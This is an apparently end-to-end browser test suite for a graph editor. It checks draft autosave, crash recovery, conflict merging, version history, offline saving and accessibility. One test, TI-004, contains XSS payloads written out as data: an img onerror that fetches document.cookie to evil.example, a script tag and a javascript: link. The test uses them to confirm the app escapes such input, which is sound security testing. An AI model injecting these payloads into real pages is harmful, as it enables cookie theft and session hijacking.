import { readFileSync } from "node:fs";
import AxeBuilder from "@axe-core/playwright";
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  badge,
  crash,
  draftsIn,
  nameOf,
  newGraphId,
  openConflict,
  openGraph,
  revisions,
  savedGraph,
  saveElsewhere,
  signIn,
  stored,
} from "./draft-pages.ts";
import { openBrowser, type Served, serve } from "./served.ts";

const _DEMO = JSON.parse(readFileSync(new URL("../../public/graphs/demo.json", import.meta.url), "utf8")) as {
  nodes: object[];
  edges: object[];
  inputs?: object[];
};

let served: Served;
let browser: Awaited<ReturnType<typeof openBrowser>>;
beforeAll(async () => {
  [served, browser] = await Promise.all([serve(), openBrowser()]);
});
afterAll(async () => {
  await browser?.close();
  await served?.stop();
});

type Options = Parameters<typeof browser.newPage>[0];
async function open(id: string, options?: Options): Promise<{ page: Page; context: BrowserContext }> {
  const opened = await browser.newPage(options);
  await signIn(opened.page, served);
  await openGraph(opened.page, served, id);
  return opened;
}
const refuseSaves = (page: Page) =>
  page.route("**/api/graphs/**", (route) => (route.request().method() === "PUT" ? route.abort() : route.fallback()));

describe("a draft", () => {
  it("is kept and saved a moment after a change, and the badge says so all the way", async () => {
    const id = await savedGraph(served);
    const { page } = await open(id);
    await badge(page, "saved").waitFor();
    expect(await revisions(served, id)).toBe(1);
    await nameOf(page).fill("Another name");
    await badge(page, "local").waitFor();
    expect(await badge(page).textContent()).toContain("Kept in this browser");
    await badge(page, "saved").waitFor();
    expect(await stored(served, id)).toMatchObject({ name: "Another name" });
    expect(await revisions(served, id)).toBe(2);
  });

  it("is saved at once by Ctrl+S, also from inside a field", async () => {
    const id = await savedGraph(served);
    const { page } = await open(id);
    await nameOf(page).fill("Saved by hand");
    await page.keyboard.press("Control+s");
    await badge(page, "saved").waitFor();
    expect(await stored(served, id)).toMatchObject({ name: "Saved by hand" });
  });

  it("opening makes no revision, and a new graph nobody touched is not saved", async () => {
    const id = newGraphId();
    const { page } = await open(id);
    expect(await badge(page).textContent()).toContain("New");
    await page.goto(served.base);
    await page.getByRole("main").waitFor();
    expect(await stored(served, id)).toBeUndefined();
  });

  it("is there again after the tab was killed, and is saved then", async () => {
    const id = await savedGraph(served);
    const { page, context } = await open(id);
    await refuseSaves(page);
    await nameOf(page).fill("Typed just before the crash");
    await expect.poll(() => draftsIn(page, id)).toContain("Typed just before the crash");
    await crash(context, page);
    const again = await context.newPage();
    await openGraph(again, served, id);
    expect(await nameOf(again).inputValue()).toBe("Typed just before the crash");
    await badge(again, "saved").waitFor();
    expect(await stored(served, id)).toMatchObject({ name: "Typed just before the crash" });
  });

  it("is there again after the page was left in the very moment of typing", async () => {
    const id = await savedGraph(served);
    const { page } = await open(id);
    await refuseSaves(page);
    await nameOf(page).fill("Typed and left");
    await page.reload();
    await expect.poll(() => nameOf(page).inputValue()).toBe("Typed and left");
  });

  it("and a save from elsewhere while the tab was gone are both kept: a person chooses", async () => {
    const id = await savedGraph(served);
    const { page, context } = await open(id);
    await refuseSaves(page);
    await nameOf(page).fill("Mine");
    await expect.poll(() => draftsIn(page, id)).toContain("Mine");
    await crash(context, page);
    await saveElsewhere(served, id, (graph) => ({ ...graph, description: "Theirs" }));
    const again = await context.newPage();
    await openGraph(again, served, id);
    const dialog = again.getByRole("dialog", { name: "This graph was changed elsewhere" });
    await dialog.getByText("Name: As it was → Mine").waitFor();
    await dialog.getByText("Description: nothing → Theirs").waitFor();
    await dialog.getByRole("button", { name: /Merge both/ }).click();
    await badge(again, "saved").waitFor();
    expect(await stored(served, id)).toMatchObject({ name: "Mine", description: "Theirs" });
  });

  it("opens where it was last looked at", async () => {
    const id = await savedGraph(served);
    const { page } = await open(id);
    const transform = () => page.locator(".react-flow__viewport").evaluate((one: HTMLElement) => one.style.transform);
    await page.locator('.react-flow__node[data-id="first"]').waitFor();
    const fitted = await transform();
    await page.mouse.move(720, 600);
    await page.mouse.wheel(0, 120);
    await expect.poll(transform).not.toBe(fitted);
    const left = await transform();
    await page.goto(served.base);
    await openGraph(page, served, id);
    await expect.poll(transform).toBe(left);
  });
});

describe("a browser", () => {
  it("CO-006 with a draft of an older layout opens it and saves it", async () => {
    const id = await savedGraph(served);
    const document = { ...(await stored(served, id)), name: "From an older layout" };
    const etag = (await served.fetch(`/api/graphs/${id}`)).headers.get("etag")?.replaceAll('"', "");
    const { page } = await browser.newPage();
    await signIn(page, served);
    await page.evaluate(
      (draft) =>
        new Promise<void>((resolve, reject) => {
          const opening = indexedDB.open("throughline-drafts", 10);
          opening.onupgradeneeded = () => void opening.result.createObjectStore("drafts", { keyPath: "id" }).put(draft);
          opening.onsuccess = () => {
            opening.result.close();
            resolve();
          };
          opening.onerror = () => reject(opening.error);
        }),
      { id, document, base: { revision: 1, etag }, dirty: true, at: 1 },
    );
    await openGraph(page, served, id);
    expect(await nameOf(page).inputValue()).toBe("From an older layout");
    await badge(page, "saved").waitFor();
    expect(await stored(served, id)).toMatchObject({ name: "From an older layout" });
  });

  it("CO-006 with drafts of a newer program is worked in all the same; they are left as they are, and it says so", async () => {
    const id = await savedGraph(served);
    const { page } = await browser.newPage();
    await signIn(page, served);
    await page.evaluate(
      () =>
        new Promise<void>((resolve, reject) => {
          const opening = indexedDB.open("throughline-drafts", 900);
          opening.onupgradeneeded = () =>
            void opening.result.createObjectStore("future", { keyPath: "id" }).put({ id: 1 });
          opening.onsuccess = () => {
            opening.result.close();
            resolve();
          };
          opening.onerror = () => reject(opening.error);
        }),
    );
    await openGraph(page, served, id);
    await page.getByText("belong to a newer version of Throughline").first().waitFor();
    await nameOf(page).fill("Still saved on the server");
    await badge(page, "saved").waitFor();
    expect(await stored(served, id)).toMatchObject({ name: "Still saved on the server" });
    const left = await page.evaluate(async () =>
      (await indexedDB.databases()).find(({ name }) => name === "throughline-drafts"),
    );
    expect(left?.version).toBe(900);
  });

  it("without a database is worked in all the same, and it says so", async () => {
    const id = await savedGraph(served);
    const { page, context } = await browser.newPage();
    await context.addInitScript(() => Object.defineProperty(window, "indexedDB", { value: undefined }));
    await signIn(page, served);
    await openGraph(page, served, id);
    await page.getByText("This browser keeps no drafts here").first().waitFor();
    await nameOf(page).fill("Saved without a draft");
    await badge(page, "saved").waitFor();
    expect(await stored(served, id)).toMatchObject({ name: "Saved without a draft" });
  });
});

describe("versions", () => {
  it("are listed, compared in words and on a map, and brought back as one step", async () => {
    const id = await savedGraph(served);
    await saveElsewhere(served, id, (graph) => ({
      ...graph,
      name: "Newer",
      nodes: graph.nodes.map((node) =>
        node.id === "first"
          ? { ...node, config: { text: (node.config.text ?? "").replace("long enough", "quite long enough") } }
          : node,
      ),
    }));
    const { page } = await open(id);
    await badge(page).click();
    const panel = page.getByRole("region", { name: "Versions" });
    await panel.getByRole("button", { name: /As it was · 2 nodes/ }).click();
    await panel.getByRole("img", { name: /Map of/ }).waitFor();
    await panel.getByRole("button", { name: "Compare" }).click();
    const dialog = page.getByRole("dialog", { name: "Compare versions" });
    const list = dialog.getByRole("list", { name: "Changes: differences" });
    await list.getByText("Name: As it was → Newer").waitFor();
    expect(await list.locator("ins").allTextContents()).toEqual([expect.stringContaining("quite")]);
    await dialog.getByRole("button", { name: /^Restore/ }).click();
    await dialog.waitFor({ state: "detached" });
    expect(await nameOf(page).inputValue()).toBe("As it was");
    await badge(page, "saved").waitFor();
    expect(await stored(served, id)).toMatchObject({ name: "As it was" });
    await page.locator(".react-flow__pane").click({ position: { x: 700, y: 650 } });
    await page.keyboard.press("Control+z");
    await expect.poll(() => nameOf(page).inputValue()).toBe("Newer");
  });
});

describe("a version with a name", () => {
  it("is found by it, also when its sitting is folded", async () => {
    const id = await savedGraph(served);
    const { page } = await open(id);
    await badge(page).click();
    const panel = page.getByRole("region", { name: "Versions" });
    await panel.getByRole("button", { name: /As it was · 2 nodes/ }).click();
    const name = panel.getByRole("textbox", { name: /^Name of the version of/ });
    await name.fill("before client review");
    await page.keyboard.press("Enter");
    await panel.getByRole("button", { name: /before client review .*As it was · 2 nodes/ }).waitFor();
    await page.reload();
    await badge(page).click();
    await panel.locator("summary").getByText("before client review").waitFor();
    await panel.getByRole("button", { name: /before client review/ }).click();
    await name.fill("");
    await page.keyboard.press("Enter");
    await panel.getByText("before client review").first().waitFor({ state: "detached" });
  });
});

describe("a network that comes and goes", () => {
  it("CO-010 every change arrives, in the end everything is saved, and one click was one run", async () => {
    const id = await savedGraph(served);
    const { page, context } = await open(id);
    const run = page.getByRole("region", { name: "Run", exact: true }).getByRole("button", { name: /^Run/ });
    await run.click();
    for (let n = 1; n <= 3; n += 1) {
      await context.setOffline(true);
      await nameOf(page).fill(`Typed while offline ${n}`);
      await badge(page, "offline").waitFor({ timeout: 15_000 });
      await page.getByText("Your changes are kept in this browser").waitFor();
      await context.setOffline(false);
      // The page must come back by itself within five seconds of the network.
      await badge(page, "saved").waitFor({ timeout: 5_000 });
      expect(await stored(served, id)).toMatchObject({ name: `Typed while offline ${n}` });
    }
    const { runs } = (await (await served.fetch(`/api/runs?graphId=${id}`)).json()) as { runs: unknown[] };
    expect(runs).toHaveLength(1);
  });
});

it("TI-004 a name, titles and notes full of HTML and script links are shown as text, and nothing is asked of anybody else", async () => {
  const evil = '<img src=x onerror=fetch("//evil.example/"+document.cookie)><script>fetch("//evil.example/")</script>';
  const link = "[click me](javascript:fetch('//evil.example/')) ![](//evil.example/x.png)";
  const note = {
    id: "note",
    type: "note",
    title: evil,
    position: { x: 0, y: 0 },
    config: { markdown: `${link}\n\n${evil}` },
  };
  const words = {
    id: "words",
    type: "text",
    title: evil,
    position: { x: 400, y: 0 },
    config: { text: `${evil} ${link}` },
  };
  const id = await savedGraph(served, { name: evil, description: `${evil} ${link}`, nodes: [note, words] });
  const { page, context } = await browser.newPage();
  const elsewhere: string[] = [];
  context.on("request", (asked) => {
    const url = new URL(asked.url());
    if (/^(https?|wss?):$/.test(url.protocol) && url.host !== new URL(served.base).host) elsewhere.push(asked.url());
  });
  const opened: string[] = [];
  page.on("dialog", (dialog) => void dialog.dismiss());
  page.on("popup", (popup) => opened.push(popup.url()));
  await signIn(page, served);
  await openGraph(page, served, id);
  expect(await nameOf(page).inputValue()).toBe(evil);
  await page.locator('.react-flow__node[data-id="words"]').waitFor();
  await page.locator('.react-flow__node[data-id="words"]').click();
  await page.locator('.react-flow__node[data-id="note"]').click();
  for (const panel of ["Outline", "Versions"]) {
    const button = page.getByRole("navigation", { name: "Panels" }).getByRole("button", { name: panel });
    if ((await button.getAttribute("aria-pressed")) !== "true") await button.click();
    await page.getByRole("region", { name: panel }).waitFor();
  }
  await saveElsewhere(served, id, (graph) => ({ ...graph, name: `${evil}!` }));
  await nameOf(page).fill(`${evil}?`);
  await badge(page, "conflict").waitFor({ timeout: 15_000 });
  await (await openConflict(page)).getByText("onerror=fetch").first().waitFor();
  expect(await page.locator('a[href^="javascript:" i], img[src="x"], img[src*="evil"]').count()).toBe(0);
  expect([elsewhere, opened]).toEqual([[], []]);
});

describe.each([
  ["dark", { viewport: { width: 1440, height: 900 }, colorScheme: "dark" }],
  ["light", { viewport: { width: 1440, height: 900 }, colorScheme: "light" }],
  ["dark on a phone", { viewport: { width: 390, height: 844 }, colorScheme: "dark" }],
  ["light on a phone", { viewport: { width: 390, height: 844 }, colorScheme: "light" }],
] as const)("versions and the choice between two in %s", (_name, look) => {
  it("have nothing serious for axe, and nothing wider than the screen", async () => {
    const id = await savedGraph(served);
    const { page } = await open(id, { ...look, reducedMotion: "reduce" });
    await saveElsewhere(served, id, (graph) => ({ ...graph, name: "Theirs", nodes: graph.nodes.slice(1) }));
    await nameOf(page).fill("Mine");
    await badge(page, "conflict").waitFor({ timeout: 15_000 });
    const serious = async () => {
      const { violations } = await new AxeBuilder({ page }).analyze();
      return violations
        .filter(({ impact }) => impact === "serious" || impact === "critical")
        .flatMap((one) => one.nodes.map(({ html }) => `${one.id}: ${html}`));
    };
    const dialog = await openConflict(page);
    await dialog.getByRole("img").first().waitFor();
    expect(await serious()).toEqual([]);
    expect(await dialog.evaluate((one) => one.scrollWidth - one.clientWidth)).toBeLessThanOrEqual(0);
    await dialog.getByRole("button", { name: /Take theirs/ }).click();
    await badge(page, "saved").waitFor();
    await badge(page).click();
    const panel = page.getByRole("region", { name: "Versions" });
    await panel.getByText("Yours, when you took the version from elsewhere").click();
    await panel.getByRole("img").waitFor();
    await panel.getByRole("button", { name: "Compare" }).click();
    await page.getByRole("dialog", { name: "Compare versions" }).getByRole("img").waitFor();
    expect(await serious()).toEqual([]);
    expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0);
  });
});
